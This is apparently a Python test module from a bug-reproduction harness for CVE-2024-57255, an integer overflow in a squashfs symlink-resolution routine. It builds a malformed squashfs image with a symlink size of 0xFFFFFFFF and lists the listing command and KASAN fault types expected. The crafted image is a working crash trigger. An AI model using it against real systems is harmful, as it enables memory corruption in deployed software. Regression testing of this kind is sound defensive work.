# SPDX-License-Identifier: MIT
"""CVE-2024-57255: sqfs_resolve_symlink() allocates the size of a symbolic link plus one, in 32 bits.

The inode says 4 GiB - 1, so the chunk has no bytes, and a zero is written 4 GiB after it. That is outside all
memory with shadow, so KASAN reports the fault, or, where memory exists at that address, the copy that
follows.
"""

from . import squashfs

FUNCTION = "sqfs_resolve_symlink"
TYPES = ("wild-memory-access", "slab-out-of-bounds")
COMMANDS = ("sqfsls virtio 0 /link/inner",)


def image():
    link = squashfs.Symlink("link", b"real", size=0xFFFFFFFF)
    inner = squashfs.Dir("inner", [squashfs.File("file")])
    root = squashfs.Dir("", [link, squashfs.Dir("real", [inner])])
    return squashfs.Writer(root, last=[link]).image()
